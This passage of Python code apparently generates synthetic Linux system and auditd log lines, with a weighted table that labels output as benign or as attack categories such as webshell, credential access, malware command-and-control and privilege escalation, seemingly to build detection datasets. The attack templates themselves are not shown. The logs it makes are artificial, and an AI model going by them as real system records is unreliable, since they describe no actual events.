        "mmdd": f"{when:%m%d}",
        "unit": c.pick(_UNITS),
        "desc": c.pick(_DESCS),
        "pkg": c.pick(_PKGS),
        "pkg2": c.pick(_PKGS),
        "pkg3": c.pick(_PKGS),
        "ver": c.fill("{int:1-9}.{int:0-30}.{int:0-20}-{int:0-9}ubuntu{int:0-9}"),
        "ver2": c.fill("{int:1-9}.{int:0-30}.{int:0-20}-{int:0-9}"),
    }


def _kstamp(c: Ctx) -> str:
    return "" if c.chance(0.4) else f"[{c.rng.uniform(1, 9e6):12.6f}] "


def _simple(
    family: str,
    category: str,
    scenario: str,
    apps: tuple[str, ...],
    templates: tuple[str, ...],
    weight: float,
    count: tuple[int, int] = (1, 3),
    kernel: bool = False,
) -> Emitter:
    def emit(c: Ctx) -> list[Line]:
        app = c.pick(apps)
        pid = None if kernel or c.chance(0.1) else c.fill("{pid}")
        out = []
        for _ in range(c.rng.randint(*count)):
            msg = c.fill(c.pick(templates), **_bind_time(c))
            out.append(
                c.line(
                    family, category, scenario, app, _kstamp(c) + msg if kernel else msg, pid=pid
                )
            )
        return out

    return Emitter(f"{family}:{scenario}", category, weight, emit)


def _pairs(
    family: str, category: str, scenario: str, pairs: tuple[tuple[str, str], ...], weight: float
) -> Emitter:
    def emit(c: Ctx) -> list[Line]:
        app, template = c.pick(pairs)
        pid = c.fill("{pid}") if c.chance(0.85) else None
        return [c.line(family, category, scenario, app, c.fill(template, **_bind_time(c)), pid=pid)]

    return Emitter(f"{family}:{scenario}", category, weight, emit)


def audit_line(c: Ctx, category: str, scenario: str) -> Line:
    """An auditd record of ``category`` (used by campaigns for their shells)."""
    rows = [r for r in AUDIT_ATTACK if r[0] == category]
    _, template, _ = c.pick(rows)
    svc, uid = c.pick(_SVC_UIDS)
    msg = c.fill(template, svc=c.bind.get("svc", svc), svcuid=uid, **_bind_time(c))
    return _audit_transport(c, category, scenario, msg)


def _audit_transport(c: Ctx, category: str, scenario: str, msg: str) -> Line:
    if c.chance(0.5):
        return c.line("auditd", category, scenario, "audit", msg, raw=True)
    return c.line(
        "auditd", category, scenario, c.pick(("audit", "auditd", "audisp-syslog", "kernel")), msg
    )


def _audit(category: str, weight: float) -> Emitter:
    def emit(c: Ctx) -> list[Line]:
        if category == BENIGN:
            return [
                _audit_transport(
                    c, BENIGN, "benign:audit", c.fill(c.pick(AUDIT_BENIGN), **_bind_time(c))
                )
                for _ in range(c.rng.randint(1, 4))
            ]
        return [
            audit_line(c, category, f"attack:audit-{category}") for _ in range(c.rng.randint(1, 3))
        ]

    return Emitter(f"auditd:{category}", category, weight, emit)


EMITTERS: tuple[Emitter, ...] = (
    _simple(
        "systemd",
        BENIGN,
        "benign:systemd",
        ("systemd", "systemd", "systemd-journald", "init"),
        SYSTEMD,
        6.0,
    ),
    _simple("kernel", BENIGN, "benign:kernel", ("kernel",), KERNEL, 5.0, kernel=True),
    _audit(BENIGN, 3.0),
    _audit("webshell", 1.0),
    _audit("credential_access", 1.5),
    _audit("malware_c2", 0.8),
    _audit("privilege_escalation", 0.8),
    _audit("brute_force", 1.0),
    _audit("network_scan", 0.4),
    _pairs("os", BENIGN, "benign:os-services", PACKAGES, 4.0),
    _pairs("containers", BENIGN, "benign:containers", CONTAINERS, 3.0),
    _pairs("linux-legacy", BENIGN, "benign:legacy-syslog", LEGACY, 2.0),
)
